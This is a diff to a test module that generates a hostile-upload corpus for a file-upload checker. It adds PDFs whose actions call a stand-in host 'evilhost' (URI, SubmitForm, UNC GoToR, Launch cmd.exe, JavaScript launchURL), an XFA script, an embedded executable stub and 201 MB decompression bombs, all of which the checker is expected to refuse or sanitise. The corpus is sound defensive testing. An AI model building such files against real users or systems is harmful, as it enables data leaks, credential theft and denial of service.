@@ -1,11 +1,13 @@
 """The hostile upload corpus (targets.md SEC-5), generated at test time: nothing big is committed.
 
-Each case is a file name and its bytes, plus what must become of it: "refused" (a clear error, nothing stored)
-or "attachment" (a harmless file that may be kept, but is only ever served as a download with nosniff and a
-sandboxing CSP). The largest things here are claims, not bytes: the 30,000 × 30,000 PNG is ~100 bytes, the
+Each case is a file name and its bytes, plus what must become of it: "refused" (a clear error, nothing stored),
+"attachment" (a harmless file that may be kept, but is only ever served as a download with nosniff and a
+sandboxing CSP) or "sanitised" (a PDF kept as an attachment only after its active content was removed: the
+stored file no longer holds it, and its page and page content are still there). The largest things here are claims, not bytes: the 30,000 × 30,000 PNG is ~100 bytes, the
 zip bomb ~50 KB (50 MB unpacked).
 """
 
+import functools
 import io
 import struct
 import zipfile
@@ -16,7 +18,7 @@ from PIL import Image
 
 from tests.applications import samples
 
-REFUSED, ATTACHMENT = "refused", "attachment"
+REFUSED, ATTACHMENT, SANITISED = "refused", "attachment", "sanitised"
 HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
 
 
@@ -76,6 +78,119 @@ def zip_bomb(unpacked: int = 50 * 1024 * 1024) -> bytes:
     return out.getvalue()
 
 
+# --- PDFs with active content or decompression bombs (issue 14) ----------------------------------------------
+
+PAGE_CONTENT = b"BT /F1 24 Tf 72 720 Td (GB/T 27922) Tj ET"
+BOMB_SIZE = 201 * 1024 * 1024  # just past applications.pdfsafe.MAX_INFLATED
+
+
+def page_pdf(catalog_extra=b"", page_extra=b"", extra_objects=(), content=PAGE_CONTENT, content_filter=b""):
+    """One page with visible text (object 4 is its content stream); objects 5, 6 … are `extra_objects`."""
+    stream_dict = b"<< /Length %d %s>>" % (len(content), content_filter)
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R " + page_extra + b" >>",
+        stream_dict + b"\nstream\n" + content + b"\nendstream",
+        *extra_objects,
+    ]
+    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+    offsets = []
+    for number, body in enumerate(objects, start=1):
+        offsets.append(len(out))
+        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
+    xref = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(offsets) + 1)
+    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
+    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(offsets) + 1, xref)
+    return bytes(out)
+
+
+UNC = b"(\\\\\\\\evilhost\\\\share\\\\x.pdf)"  # the PDF string (\\\\evilhost\\share\\x.pdf): \\evilhost\share\x.pdf
+HOSTILE_PDFS = {
+    "pdf_open_action_uri": (
+        "PDF /OpenAction with /URI",
+        lambda: page_pdf(b"/OpenAction 5 0 R", extra_objects=(b"<< /S /URI /URI (http://evilhost.example/t) >>",)),
+    ),
+    "pdf_page_aa_submit": (
+        "PDF page /AA with /SubmitForm, link annotation /A",
+        lambda: page_pdf(
+            page_extra=b"/AA << /O 5 0 R >> /Annots [6 0 R]",
+            extra_objects=(
+                b"<< /S /SubmitForm /F << /FS /URL /F (http://evilhost.example/c) >> >>",
+                b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (cmd.exe) >> /AA << /E 5 0 R >> >>",
+            ),
+        ),
+    ),
+    "pdf_gotor_unc": (
+        "PDF /GoToR to a UNC path",
+        lambda: page_pdf(b"/OpenAction 5 0 R", extra_objects=(b"<< /S /GoToR /F " + UNC + b" /D [0 /Fit] >>",)),
+    ),
+    "pdf_import_data": (
+        "PDF /ImportData",
+        lambda: page_pdf(b"/OpenAction << /S /ImportData /F (evilhost.fdf) >>"),
+    ),
+    "pdf_xfa": (
+        "PDF AcroForm /XFA",
+        lambda: page_pdf(
+            b"/AcroForm << /Fields [] /XFA 5 0 R /NeedsRendering true >>",
+            extra_objects=(b"<< /Length 38 >>\nstream\n<xdp><script>evilhost()</script></xdp>\nendstream",),
+        ),
+    ),
+    "pdf_embedded_file": (
+        "PDF embedded file",
+        lambda: page_pdf(
+            b"/Names << /EmbeddedFiles << /Names [(evilhost.exe) 5 0 R] >> >>",
+            extra_objects=(
+                b"<< /Type /Filespec /F (evilhost.exe) /EF << /F 6 0 R >> >>",
+                b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
+            ),
+        ),
+    ),
+    "pdf_js_name_tree": (
+        "PDF JavaScript in a name tree",
+        lambda: page_pdf(
+            b"/Names << /JavaScript << /Names [(x) 5 0 R] >> >>",
+            extra_objects=(b'<< /S /JavaScript /JS (app.launchURL\\("http://evilhost.example"\\)) >>',),
+        ),
+    ),
+}
+
+
+@functools.cache
+def stream_bomb() -> bytes:
+    """A page whose content stream inflates to 201 MB of zeros (about 200 KB in the file)."""
+    return page_pdf(content=zlib.compress(b"\0" * BOMB_SIZE, 9), content_filter=b"/Filter /FlateDecode ")
+
+
+@functools.cache
+def object_stream_bomb() -> bytes:
+    """A PDF 1.5 file whose object stream (holding the catalog and page) inflates past 200 MB."""
+    members = [
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
+    ]
+    header, body = b"", b""
+    for number, member in enumerate(members, start=1):
+        header += b"%d %d " % (number, len(body))
+        body += member + b"\n"
+    data = zlib.compress(header + body + b" " * BOMB_SIZE, 9)
+    out = bytearray(b"%PDF-1.5\n")
+    objstm_offset = len(out)
+    out += b"4 0 obj\n<< /Type /ObjStm /N 3 /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
+        len(header),
+        len(data),
+    )
+    out += data + b"\nendstream\nendobj\n"
+    xref_offset = len(out)
+    rows = [(0, 0, 255)] + [(2, 4, i) for i in range(3)] + [(1, objstm_offset, 0), (1, xref_offset, 0)]
+    table = b"".join(struct.pack(">BIB", *row) for row in rows)
+    out += b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 1] /Root 1 0 R /Length %d >>\nstream\n" % len(table)
+    out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
+    return bytes(out)
+
+
 def cases() -> list[Case]:
     pdf = samples.pdf()
     return [
@@ -83,11 +198,14 @@ def cases() -> list[Case]:
         Case("png_html_chunk", "scan.png", html_in_png_text_chunk(), ATTACHMENT, "HTML inside a PNG text chunk"),
         Case("svg_script", "logo.svg", svg_with_script(), REFUSED, "SVG with a script"),
         Case("svg_as_png", "logo.png", svg_with_script(), REFUSED, "SVG renamed .png"),
-        Case("pdf_open_action_js", "form.pdf", samples.pdf_with_open_action_js(), REFUSED, "PDF /OpenAction JS"),
-        Case("pdf_escaped_js", "form.pdf", samples.pdf_with_escaped_js_name(), REFUSED, "PDF /J#53 (escaped /JS)"),
-        Case("pdf_js_objstm", "form.pdf", samples.pdf_with_js_in_object_stream(), REFUSED, "PDF JS in object stream"),
-        Case("pdf_launch", "form.pdf", samples.pdf_with_launch(), REFUSED, "PDF /Launch action"),
-        Case("pdf_embedded", "form.pdf", samples.pdf_with_embedded_file(), REFUSED, "PDF with an embedded file"),
+        Case("pdf_open_action_js", "form.pdf", samples.pdf_with_open_action_js(), SANITISED, "PDF /OpenAction JS"),
+        Case("pdf_escaped_js", "form.pdf", samples.pdf_with_escaped_js_name(), SANITISED, "PDF /J#53 (escaped /JS)"),
+        Case("pdf_js_objstm", "form.pdf", samples.pdf_with_js_in_object_stream(), SANITISED, "PDF JS in object stream"),
+        Case("pdf_launch", "form.pdf", samples.pdf_with_launch(), SANITISED, "PDF /Launch action"),
+        Case("pdf_embedded", "form.pdf", samples.pdf_with_embedded_file(), SANITISED, "PDF with an embedded file"),
+        *(Case(key, "form.pdf", build(), SANITISED, what) for key, (what, build) in HOSTILE_PDFS.items()),
+        Case("pdf_stream_bomb", "form.pdf", stream_bomb(), REFUSED, "PDF content stream inflating to 201 MB"),
+        Case("pdf_objstm_bomb", "form.pdf", object_stream_bomb(), REFUSED, "PDF object stream inflating to 201 MB"),
         Case("pdf_encrypted", "form.pdf", samples.encrypted_pdf(), REFUSED, "encrypted PDF"),
         Case("pdf_then_html", "form.pdf", b"%PDF-1.4\n" + HTML, REFUSED, "PDF header on an HTML page"),
         Case("exe_as_pdf", "licence.pdf", samples.EXE, REFUSED, ".exe renamed .pdf"),
